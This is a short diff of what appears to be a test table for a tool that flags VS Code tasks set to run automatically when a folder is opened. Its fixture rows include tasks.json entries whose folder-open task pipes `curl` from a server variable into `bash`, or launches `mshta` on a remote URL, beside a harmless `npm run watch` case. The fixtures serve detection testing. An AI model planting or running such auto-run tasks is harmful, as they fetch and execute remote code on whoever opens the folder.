@@ -224,7 +224,7 @@ const ROWS: readonly Row[] = [
     'task that runs when a folder is opened',
     'Script.Project',
     file('a/.vscode/tasks.json', onOpening({ command: `curl -s http://${SERVER}/a | bash` })),
-    file('a/.vscode/tasks.json', onOpening({ windows: { command: 'mshta', args: [`http://${SERVER}/a`] } })),
+    file('tasks.json', onOpening({ windows: { command: 'mshta', args: [`http://${SERVER}/a`] } })),
     file('a/.vscode/tasks.json', onOpening({ command: 'npm', args: ['run', 'watch'] })),
   ],
   [
